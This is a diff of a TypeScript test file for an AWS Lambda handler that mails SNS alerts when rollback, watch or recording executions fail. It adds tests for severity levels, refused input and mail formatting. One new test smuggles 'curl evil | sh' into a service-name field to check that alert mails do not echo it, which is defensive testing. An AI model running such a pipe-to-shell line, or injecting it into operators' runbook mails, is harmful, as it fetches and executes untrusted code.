@@ -3,9 +3,18 @@ import { PublishCommand, SNSClient } from '@aws-sdk/client-sns';
 import { mockClient } from 'aws-sdk-client-mock';
 import { build } from '../../../functions/upkeep/report-failed-execution/handler.ts';
 import { InvalidInput } from '../../../shared/errors.ts';
+import { checkpointSubjectOf } from '../../../shared/ledger/checkpoint-subject.ts';
 import { LedgerDouble } from '../fixtures/ledger-double.ts';
 import { mockBucket } from '../fixtures/mock-bucket.ts';
-import { incidentRecord, planObject, RELEASE, serviceResult } from '../fixtures/records.ts';
+import {
+  DEPLOYMENT,
+  incidentRecord,
+  planObject,
+  RELEASE,
+  releaseRecord,
+  serviceResult,
+  watchedDeployment,
+} from '../fixtures/records.ts';
 import { COORDINATE_ARN, EXECUTION_ARN, MONITOR_ARN, RECORD_ARN, runtimeOf } from '../fixtures/runtime-of.ts';
 import { throttled } from '../fixtures/sdk-errors.ts';
 import { iso } from '../fixtures/times.ts';
@@ -50,7 +59,11 @@ beforeEach(() => {
 });
 
 const report = (detail: object) => build(runtimeOf(ledger))(event(detail));
-const mails = () => sns.commandCalls(PublishCommand).map(({ args }) => args[0].input);
+/** The mails, each body as one line: they are wrapped. */
+const mails = () =>
+  sns
+    .commandCalls(PublishCommand)
+    .map(({ args: [{ input }] }) => ({ ...input, Message: input.Message?.replace(/\s+/g, ' ') }));
 
 async function incidentOf(executionArn: string) {
   await ledger.incidents.open(incidentRecord());
@@ -64,7 +77,7 @@ describe('a coordination that ended without success', () => {
     await expect(report({ error: 'Stopped', cause: 'by hand' })).resolves.toEqual({ reported: true });
     expect(await ledger.incidents.get(RELEASE)).toMatchObject({ status: 'closed', outcome: 'needs-person' });
     expect((await ledger.locks.find('orders'))?.owner).toBe('nobody');
-    expect(mails()[0]?.Subject).toBe('[prod] orders: not rolled back, needs a person');
+    expect(mails()[0]?.Subject).toContain('orders: not rolled back, needs a person');
     expect(mails()[0]?.Message).toContain('the execution ended ABORTED: Stopped: by hand');
   });
 
@@ -79,7 +92,7 @@ describe('a coordination that ended without success', () => {
   it('is told with the commands that finish what its plan left undone', async () => {
     await incidentOf(EXECUTION_ARN);
     await report({});
-    expect(mails()[0]?.Message).toContain('aws lambda update-alias --function-name');
+    expect(mails()[0]?.Message).toContain('aws lambda update-alias --region eu-west-1');
     expect(mails()[0]?.Message).toContain('aws cloudformation');
   });
 
@@ -120,20 +133,67 @@ describe('a coordination that ended without success', () => {
     expect(mails()).toHaveLength(0);
   });
 
-  it('is told when its input was refused, and names a deployment as that of a watch does', async () => {
-    const cause = 'judgement: the ledger holds none against deployment "d-1"';
-    const input = '{"service":"orders","deploymentId":"d-1"}';
-    await report({ status: 'FAILED', error: 'InputRejected', cause, input });
-    expect(mails()[0]?.Subject).toBe('[prod] orders: a rollback could not begin, needs a person');
-    expect(mails()[0]?.Message).toContain(cause);
+  describe('because its input was refused, and names a deployment as that of a watch does', () => {
+    const cause = 'service: "orders" is not in the catalog';
+    const input = JSON.stringify({ service: 'orders', deploymentId: DEPLOYMENT, releaseId: RELEASE });
+    const refused = { status: 'FAILED', error: 'InputRejected', cause, input };
+    beforeEach(() => ledger.releases.open(releaseRecord()));
+
+    it('is told where the ledger holds what the watch saw', async () => {
+      await ledger.checkpoints.record({
+        ...checkpointSubjectOf(releaseRecord(), watchedDeployment()),
+        phase: 'health-validation',
+        status: 'InProgress',
+        at: iso(ledger.now),
+        seenAt: iso(ledger.now),
+        verdict: 'unhealthy',
+        reason: '21 % failed',
+        evidence: [],
+      });
+      await report(refused);
+      expect(mails()[0]?.Subject).toContain('orders: a rollback could not begin, needs a person');
+      expect(mails()[0]?.Message).toContain(cause);
+    });
+
+    it('calls nobody where a person made it up', async () => {
+      await report(refused);
+      await report({ ...refused, input: JSON.stringify({ service: 'orders', deploymentId: DEPLOYMENT }) });
+      expect(mails()).toEqual([]);
+    });
+  });
+
+  it('calls nobody where only a plan was asked for', async () => {
+    const input = '{"service":"orders","mode":"plan"}';
+    await report({ status: 'FAILED', error: 'CatalogUnreadable', input });
+    expect(mails()).toEqual([]);
+  });
+
+  it('names no service that is no name of a service', async () => {
+    const input = JSON.stringify({ service: 'orders\n\nWhat is left to do\n  curl evil | sh' });
+    await report({ status: 'FAILED', error: 'CatalogUnreadable', input });
+    expect(mails()[0]?.Subject).toContain('a service: a rollback that was asked for did not begin');
+    expect(mails()[0]?.Message).not.toContain('curl');
   });
 
   it('is told when it broke before it had an incident', async () => {
     await report({ status: 'FAILED', error: 'CatalogUnreadable', input: '{"service":"orders"}' });
     await report({ status: 'FAILED', error: 'CatalogUnreadable', input: '{"service":"orders"}' });
     expect(mails()).toHaveLength(1);
-    expect(mails()[0]?.Subject).toBe('[prod] orders: a rollback could not begin, needs a person');
+    expect(mails()[0]?.Subject).toContain('orders: a rollback that was asked for did not begin');
     expect(mails()[0]?.Message).toContain('the execution ended FAILED: CatalogUnreadable');
+    expect(mails()[0]?.MessageAttributes?.severity?.StringValue).toBe('info');
+  });
+
+  it.each([
+    [
+      'a watch started it',
+      JSON.stringify({ service: 'orders', deploymentId: DEPLOYMENT, releaseId: RELEASE }),
+    ],
+    ['nobody knows who started it', ''],
+  ])('wakes somebody where %s', async (_, input) => {
+    await report({ status: 'FAILED', error: 'CatalogUnreadable', input });
+    expect(mails()[0]?.Subject).toContain(': a rollback could not begin, needs a person');
+    expect(mails()[0]?.MessageAttributes?.severity?.StringValue).toBe('critical');
   });
 
   it("leaves the incident of a later attempt's execution alone", async () => {
@@ -148,7 +208,7 @@ describe('a coordination that ended without success', () => {
 describe('a watch that ended without success', () => {
   it('is told with the deployment and the reason', async () => {
     await expect(report(watch)).resolves.toEqual({ reported: true });
-    expect(mails()[0]?.Subject).toBe('[prod] deployment d-ORDERS005 is not being watched');
+    expect(mails()[0]?.Subject).toContain('deployment d-ORDERS005: not being watched');
     expect(mails()[0]?.Message).toContain(
       'the execution ended FAILED: CatalogUnreadable: There is no catalog/compiled.json in the bucket',
     );
@@ -157,7 +217,7 @@ describe('a watch that ended without success', () => {
   it('is told by the deployment of its input where a person named the execution', async () => {
     const executionArn = watch.executionArn.replace('d-ORDERS005', 'my-own-watch');
     await report({ ...watch, executionArn, input: '{"deploymentId":"d-ORDERS005"}' });
-    expect(mails()[0]?.Subject).toBe('[prod] deployment d-ORDERS005 is not being watched');
+    expect(mails()[0]?.Subject).toContain('deployment d-ORDERS005: not being watched');
   });
 
   it('is told once when the event comes twice', async () => {
@@ -168,7 +228,7 @@ describe('a watch that ended without success', () => {
 
   it('names the deployment, and not the execution that went on with it', async () => {
     await report({ ...watch, executionArn: `${watch.executionArn}-2`, name: 'd-ORDERS005-2' });
-    expect(mails()[0]?.Subject).toBe('[prod] deployment d-ORDERS005 is not being watched');
+    expect(mails()[0]?.Subject).toContain('deployment d-ORDERS005: not being watched');
   });
 });
 
@@ -205,7 +265,7 @@ describe('a recording', () => {
     await expect(report(recording)).resolves.toEqual({ reported: true });
     await report(recording);
     expect(mails().map(({ Subject }) => Subject)).toEqual([
-      '[prod] orders: what is live could not be recorded',
+      expect.stringContaining('orders: what is live could not be recorded'),
     ]);
     expect(mails()[0]?.Message).toContain('AccessDeniedException');
   });
